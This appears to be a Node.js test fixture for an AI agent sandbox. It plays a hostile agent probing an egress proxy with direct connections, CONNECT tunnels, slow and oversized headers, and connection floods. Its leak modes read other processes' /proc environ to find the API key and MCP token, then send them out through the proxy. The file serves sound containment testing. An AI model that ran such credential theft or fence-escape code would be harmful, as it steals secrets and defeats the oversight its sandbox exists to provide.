// What a hostile agent runs inside its task container to reach past the fence (test/attacks/
// network.test.ts copies it into the project). Node's own sockets only (the test image has no
// curl): it uses HTTP_PROXY the way curl would, or connects directly. Prints one JSON line.
//   node net-probe.cjs get URL [HEADER]      absolute-form GET through $HTTP_PROXY
//   node net-probe.cjs connect HOST PORT     CONNECT through $HTTP_PROXY, then GET / in the tunnel
//   node net-probe.cjs direct HOST PORT      a GET straight to HOST:PORT (no proxy)
//   node net-probe.cjs slow                  a head that never ends
//   node net-probe.cjs big                   a 20 KiB head
//   node net-probe.cjs many N                N connections at once, none sending
//   node net-probe.cjs leak URL              GET URL?k=<the task's placeholder> through $HTTP_PROXY
//   node net-probe.cjs leak-connect HOST PORT  CONNECT with the placeholder in a header
//   node net-probe.cjs leak-mcp URL          POST URL with the task's MCP token (its harness's LAZY_MCP_TOKEN) in the body
const net = require("node:net");
const fs = require("node:fs");
const [mode, a, b] = process.argv.slice(2);
const proxy = process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY) : null;
const started = Date.now();
const out = (o) => {
  console.log(JSON.stringify({ ms: Date.now() - started, proxy: process.env.HTTP_PROXY || null, ...o }));
  process.exit(0);
};

function exchange(host, port, send, timeoutMs, onData) {
  const s = net.connect({ host, port });
  let got = "";
  const timer = setTimeout(() => {
    s.destroy();
    out({ result: "timeout", got });
  }, timeoutMs);
  s.on("connect", () => send && s.write(send));
  s.on("data", (d) => {
    got += d.toString("latin1");
    if (onData) onData(s, got);
  });
  s.on("error", (e) => {
    clearTimeout(timer);
    out({ result: "error", code: e.code, got });
  });
  s.on("close", () => {
    clearTimeout(timer);
    out({ result: "closed", got });
  });
  return s;
}

/** A variable of this process's environment, or of the harness's (the agent's own processes). */
function fromEnv(name) {
  if (process.env[name]) return process.env[name];
  for (const pid of fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n))) {
    try {
      const m = new RegExp(`(?:^|\0)${name}=([^\0]+)`).exec(fs.readFileSync(`/proc/${pid}/environ`, "latin1"));
      if (m) return m[1];
    } catch {}
  }
  return null;
}
const placeholder = () => fromEnv("ANTHROPIC_API_KEY");

if (mode === "leak-mcp") {
  if (!proxy) out({ result: "no-proxy" });
  const token = fromEnv("LAZY_MCP_TOKEN");
  if (!token) out({ result: "no-mcp-token" });
  const u = new URL(a);
  const body = JSON.stringify({ stolen: token });
  exchange(
    proxy.hostname,
    Number(proxy.port),
    `POST ${a} HTTP/1.1\r\nHost: ${u.host}\r\ncontent-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\nConnection: close\r\n\r\n${body}`,
    8000,
  );
} else if (mode === "get" || mode === "leak") {
  if (!proxy) out({ result: "no-proxy" });
  let url = a;
  if (mode === "leak") {
    const k = placeholder();
    if (!k) out({ result: "no-placeholder" });
    url = `${a}?k=${k}`;
  }
  const u = new URL(url);
  exchange(
    proxy.hostname,
    Number(proxy.port),
    `GET ${url} HTTP/1.1\r\nHost: ${u.host}\r\n${b ? `${b}\r\n` : ""}Connection: close\r\n\r\n`,
    8000,
  );
} else if (mode === "connect") {
  if (!proxy) out({ result: "no-proxy" });
  let tunnelled = false;
  exchange(proxy.hostname, Number(proxy.port), `CONNECT ${a}:${b} HTTP/1.1\r\nHost: ${a}:${b}\r\n\r\n`, 8000, (s, got) => {
    if (!tunnelled && got.includes("\r\n\r\n") && got.startsWith("HTTP/1.1 200")) {
      tunnelled = true;
      s.write(`GET / HTTP/1.1\r\nHost: ${a}:${b}\r\nConnection: close\r\n\r\n`);
    }
  });
} else if (mode === "leak-connect") {
  const k = placeholder();
  if (!k) out({ result: "no-placeholder" });
  exchange(proxy.hostname, Number(proxy.port), `CONNECT ${a}:${b} HTTP/1.1\r\nHost: ${a}:${b}\r\nX-Token: ${k}\r\n\r\n`, 8000);
} else if (mode === "direct") {
  exchange(a, Number(b), `GET / HTTP/1.1\r\nHost: ${a}:${b}\r\nConnection: close\r\n\r\n`, 4000);
} else if (mode === "slow") {
  exchange(proxy.hostname, Number(proxy.port), "CONNECT 127.0.0.1:9 HTTP/1.1\r\nX-Slow: 1\r\n", 20000);
} else if (mode === "big") {
  exchange(proxy.hostname, Number(proxy.port), `GET http://${a}/ HTTP/1.1\r\nX-Big: ${"b".repeat(20 * 1024)}\r\n\r\n`, 8000);
} else if (mode === "many") {
  const n = Number(a);
  const answers = [];
  for (let i = 0; i < n; i++) {
    const s = net.connect({ host: proxy.hostname, port: Number(proxy.port) });
    s.on("data", (d) => answers.push(d.toString("latin1").split("\r\n")[0]));
    s.on("error", () => {});
  }
  setTimeout(() => out({ result: "many", answers }), 3000);
} else out({ result: "usage" });
